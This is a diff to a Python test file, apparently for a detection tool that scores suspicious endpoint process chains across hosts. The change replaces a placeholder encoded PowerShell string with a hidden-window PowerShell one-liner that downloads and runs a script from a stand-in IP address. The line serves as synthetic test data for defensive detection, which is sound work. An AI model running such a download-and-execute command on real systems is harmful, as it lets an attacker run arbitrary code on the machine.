@@ -133,7 +133,7 @@ def test_what_is_on_many_hosts_scores_higher_in_parts_and_never_lower(app: App) 
             {**MSIEXEC, "dest": f"h{n}"},
             process(dest=f"h{n}", process_id=2, parent_process_id=1, _time=START + 1,
                     process_name="powershell.exe",
-                    process="powershell.exe -nop -w hidden -EncodedCommand " + "SQBFAFgA" * 9),
+                    process="powershell.exe -nop -w hidden -c IEX (irm https://203.0.113.7/a)"),
         )
     ]  # fmt: skip
     data = {"Endpoint.Processes": rows}
